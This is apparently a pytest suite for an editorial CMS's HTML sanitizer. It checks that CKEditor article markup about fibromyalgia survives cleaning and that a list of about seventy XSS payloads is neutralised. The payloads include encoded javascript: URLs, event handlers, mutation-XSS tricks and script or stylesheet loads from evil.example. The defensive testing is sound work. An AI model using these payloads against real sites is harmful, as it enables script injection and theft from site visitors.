"""Tests for editorial.richtext.clean_html: XSS payloads out, CKEditor markup in."""

import html
import re
from html.parser import HTMLParser

import pytest

from editorial.richtext import clean_html

# The specification, written out here rather than imported: what CKEditor 5 emits for an article.
# Adding a tag to the sanitizer's allow-list (e.g. <form>) must fail these tests until this list is changed too.
ALLOWED_TAGS = frozenset(
    {
        "h2", "h3", "h4", "p", "br", "hr", "strong", "b", "em", "i", "u", "s",
        "sub", "sup", "blockquote", "ul", "ol", "li", "a", "code", "pre",
        "figure", "figcaption", "img", "table", "caption", "thead", "tbody",
        "tfoot", "tr", "th", "td",
    }
)  # fmt: skip

HREF_PREFIXES = ("http://", "https://", "mailto:", "tel:", "/", "#")
SRC_PREFIXES = ("http://", "https://", "/")
ALLOWED_ATTRS = {
    "a": {"href", "title", "rel"},
    "img": {"src", "alt", "width", "height"},
    "th": {"colspan", "rowspan", "scope"},
    "td": {"colspan", "rowspan"},
    "figure": {"class"},  # only CKEditor's "image" or "table", checked below
}
# Whitespace, C0/C1 controls and the Unicode spaces browsers may ignore in URLs.
INVISIBLE = re.compile(r"[\s\x00-\x1f\x7f-\x9f\u200b-\u200d\u2060\ufeff\ufffd]")

XSS_PAYLOADS = [
    # Script and style elements, including case and parser tricks.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<script/xss src="https://evil.example/x.js"></script>',
    "<<script>alert(1);//<</script>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<p style="width:expression(alert(1))">x</p>',
    '<p style="background-image:url(javascript:alert(1))">x</p>',
    # Event handlers.
    "<img src=x onerror=alert(1)>",
    '<img src="/a.png" onerror="alert(1)" onload="alert(2)">',
    "<IMG SRC=/ onerror=&#97;lert(1)>",
    '<body onload="alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<details open ontoggle=alert(1)>",
    '<p onmouseover="alert(1)">hover</p>',
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>",
    # javascript: URLs in many encodings.
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="jav\tascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href="jav\nascript:alert(1)">x</a>',
    '<a href="java\x00script:alert(1)">x</a>',
    '<a href=" &#14;  javascript:alert(1)">x</a>',
    '<a href="\u2000javascript:alert(1)">x</a>',
    '<a href="\u00a0javascript:alert(1)">x</a>',
    '<a href="\u3000javascript:alert(1)">x</a>',
    '<a href="\ufeffjavascript:alert(1)">x</a>',
    "<a href=javascript:alert(1)>x</a>",
    "<a href=`javascript:alert(1)`>x</a>",
    '<img src="javascript:alert(1)">',
    '<img src="&#x20;javascript:alert(1)">',
    # Other dangerous schemes and off-site tricks.
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="//evil.example">x</a>',
    '<a href="/\\evil.example">x</a>',
    '<a href="/\t/evil.example">x</a>',
    '<img src="//evil.example/pixel.gif">',
    '<img src="#x">',
    '<img src="mailto:a@example.com">',
    # Embedding and document-level elements.
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><input type="submit"></form>',
    '<form><button formaction="javascript:alert(1)">x</button></form>',
    '<input autofocus onfocus="alert(1)">',
    '<math><mtext><a href="javascript:alert(1)">x</a></mtext></math>',
    '<math href="javascript:alert(1)">x</math>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<table background=javascript:alert(1)><tr><td>x</td></tr></table>",
    # Mutation XSS: markup hidden in places that reparse differently.
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<svg><style><img src=x onerror="alert(1)"></style></svg>',
    "<template><script>alert(1)</script></template>",
    "<!--<img src=x onerror=alert(1)>-->",
    '<a href="https://ok.example" target="_blank" rel="opener">x</a>',
    '<h2 id="csrfmiddlewaretoken" class="x" style="color:red">x</h2>',
    '<td colspan="2 onmouseover=alert(1)">x</td>',
]


class _Collector(HTMLParser):
    """Record every start tag and its attributes from sanitised output."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, attrs))

    handle_startendtag = handle_starttag


def _elements(markup: str) -> list[tuple[str, list[tuple[str, str | None]]]]:
    parser = _Collector()
    parser.feed(markup)
    parser.close()
    return parser.elements


def _assert_safe(markup: str) -> None:
    for tag, attrs in _elements(markup):
        assert tag in ALLOWED_TAGS, f"disallowed tag <{tag}> in {markup!r}"
        for name, value in attrs:
            assert not name.startswith("on"), f"handler {name} in {markup!r}"
            assert name in ALLOWED_ATTRS.get(tag, set()), f"{tag}[{name}] in {markup!r}"
            value = value or ""
            squashed = INVISIBLE.sub("", html.unescape(value)).lower()
            for scheme in ("javascript:", "vbscript:", "data:"):
                assert scheme not in squashed, f"{scheme} in {markup!r}"
            if name in ("width", "height", "colspan", "rowspan"):
                assert value.isdigit(), markup
            if name == "class":
                assert value in ("image", "table"), markup
            if name in ("href", "src"):
                prefixes = HREF_PREFIXES if name == "href" else SRC_PREFIXES
                assert value.lower().startswith(prefixes), markup
                # Browsers drop tabs/newlines and read "\\" as "/": no "//" host.
                assert not squashed.replace("\\", "/").startswith("//"), markup
    lowered = markup.lower()
    for marker in ("<script", "<style", "<iframe", "<svg", "<math", "<!--"):
        assert marker not in lowered, f"{marker} in {markup!r}"


def test_enough_payloads() -> None:
    assert len(XSS_PAYLOADS) >= 40
    assert len(set(XSS_PAYLOADS)) == len(XSS_PAYLOADS)


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_xss_payload_is_neutralised(payload: str) -> None:
    _assert_safe(clean_html(payload))


@pytest.mark.parametrize(
    "payload",
    [
        "<script>alert(1)</script>ok",
        "<style>@import 'https://evil.example/x.css';</style>ok",
        "<svg><title>alert(1)</title></svg>ok",
        "<template><b>alert(1)</b></template>ok",
    ],
)
def test_executable_content_is_dropped_not_just_unwrapped(payload: str) -> None:
    assert clean_html(payload) == "ok"


REL = ' rel="noopener noreferrer"'

LEGIT_MARKUP = [
    ("<h2>What is fibromyalgia?</h2>", "<h2>What is fibromyalgia?</h2>"),
    ("<h3>Symptoms</h3><h4>Fatigue</h4>", "<h3>Symptoms</h3><h4>Fatigue</h4>"),
    (
        "<p>Pain is <strong>widespread</strong> and <em>chronic</em>.</p>",
        "<p>Pain is <strong>widespread</strong> and <em>chronic</em>.</p>",
    ),
    (
        "<p><b>b</b> <i>i</i> <u>u</u> <s>s</s> H<sub>2</sub>O x<sup>2</sup><br>next</p>",
        "<p><b>b</b> <i>i</i> <u>u</u> <s>s</s> H<sub>2</sub>O x<sup>2</sup><br>next</p>",
    ),
    (
        (
            "<ul><li>Sleep<ul><li>Routine</li><li>Light</li></ul></li><li>Exercise</li></ul>"
            "<ol><li>First<ol><li>Nested</li></ol></li></ol>"
        ),
        (
            "<ul><li>Sleep<ul><li>Routine</li><li>Light</li></ul></li><li>Exercise</li></ul>"
            "<ol><li>First<ol><li>Nested</li></ol></li></ol>"
        ),
    ),
    (
        '<p><a href="https://www.samhsa.gov/">SAMHSA</a></p>',
        f'<p><a href="https://www.samhsa.gov/"{REL}>SAMHSA</a></p>',
    ),
    (
        ('<a href="https://www.samhsa.gov/" title="Helpline" target="_blank" rel="noopener noreferrer">SAMHSA</a>'),
        f'<a href="https://www.samhsa.gov/" title="Helpline"{REL}>SAMHSA</a>',
    ),
    (
        '<a href="mailto:editors@example.org">Email</a> <a href="tel:+18006624357">Call</a>',
        (f'<a href="mailto:editors@example.org"{REL}>Email</a> <a href="tel:+18006624357"{REL}>Call</a>'),
    ),
    ('<a href="#sources">Sources</a>', f'<a href="#sources"{REL}>Sources</a>'),
    (
        '<a href="/conditions/fibromyalgia/">Fibromyalgia</a>',
        f'<a href="/conditions/fibromyalgia/"{REL}>Fibromyalgia</a>',
    ),
    (
        '<a href="https://example.org/search?q=pain&amp;page=2">Search</a>',
        f'<a href="https://example.org/search?q=pain&amp;page=2"{REL}>Search</a>',
    ),
    (
        (
            '<figure class="table"><table><caption>Doses</caption><thead><tr>'
            '<th scope="col">Drug</th><th scope="col" colspan="2">Dose</th></tr></thead>'
            '<tbody><tr><th scope="row">A</th><td>10 mg</td><td rowspan="1">daily</td></tr>'
            "</tbody><tfoot><tr><td>Note</td></tr></tfoot></table></figure>"
        ),
        (
            '<figure class="table"><table><caption>Doses</caption><thead><tr>'
            '<th scope="col">Drug</th><th scope="col" colspan="2">Dose</th></tr></thead>'
            '<tbody><tr><th scope="row">A</th><td>10 mg</td><td rowspan="1">daily</td></tr>'
            "</tbody><tfoot><tr><td>Note</td></tr></tfoot></table></figure>"
        ),
    ),
    (
        "<blockquote><p>Movement is medicine.</p></blockquote>",
        "<blockquote><p>Movement is medicine.</p></blockquote>",
    ),
    (
        (
            '<figure class="image"><img src="/media/articles/walk.jpg" alt="A person walking" '
            'width="1200" height="800" style="aspect-ratio:1200/800;">'
            "<figcaption>Gentle exercise helps.</figcaption></figure>"
        ),
        (
            '<figure class="image"><img src="/media/articles/walk.jpg" alt="A person walking" '
            'width="1200" height="800"><figcaption>Gentle exercise helps.</figcaption></figure>'
        ),
    ),
    (
        '<img src="https://cdn.example.org/a.png" alt="Chart">',
        '<img src="https://cdn.example.org/a.png" alt="Chart">',
    ),
    (
        '<pre><code class="language-plaintext">dose = 10</code></pre><hr><p><code>x</code></p>',
        "<pre><code>dose = 10</code></pre><hr><p><code>x</code></p>",
    ),
    ('<p><span style="color:red">Red</span> text</p>', "<p>Red text</p>"),
]


@pytest.mark.parametrize(("markup", "expected"), LEGIT_MARKUP)
def test_ckeditor_markup_survives(markup: str, expected: str) -> None:
    assert clean_html(markup) == expected


@pytest.mark.parametrize("sample", XSS_PAYLOADS[::3] + [markup for markup, _ in LEGIT_MARKUP])
def test_clean_is_idempotent(sample: str) -> None:
    once = clean_html(sample)
    assert clean_html(once) == once


@pytest.mark.parametrize("empty", ["", None])
def test_empty_input_returns_empty_string(empty: str | None) -> None:
    assert clean_html(empty) == ""


@pytest.mark.parametrize(
    "tag",
    ["form", "input", "button", "select", "textarea", "iframe", "object", "embed", "svg", "math", "link", "meta",
     "base", "style", "script", "video", "audio", "source", "div", "span", "font", "label", "details", "dialog"],
)  # fmt: skip
def test_tags_outside_the_allow_list_never_survive(tag):
    cleaned = clean_html(f"<p>before</p><{tag} id=x>inside</{tag}><p>after</p>")

    assert not re.search(rf"<{tag}\b", cleaned, re.I)
    assert "<p>before</p>" in cleaned and "<p>after</p>" in cleaned


@pytest.mark.parametrize(
    ("markup", "expected"),
    [
        (
            '<figure class="image image-style-side"><img src="/m/a.png"></figure>',
            '<figure class="image"><img src="/m/a.png"></figure>',
        ),
        (
            '<figure class="site-header"><img src="/m/a.png"></figure>',
            '<figure class="image"><img src="/m/a.png"></figure>',
        ),
        ('<figure class="hero"><p>Text</p></figure>', "<figure><p>Text</p></figure>"),
        (
            '<figure><img src="/m/a.png"><figcaption>Chart</figcaption></figure>',
            '<figure class="image"><img src="/m/a.png"><figcaption>Chart</figcaption></figure>',
        ),
    ],
)
def test_a_figure_keeps_only_the_class_that_makes_ckeditor_read_it_as_an_image(markup, expected):
    assert clean_html(markup) == expected
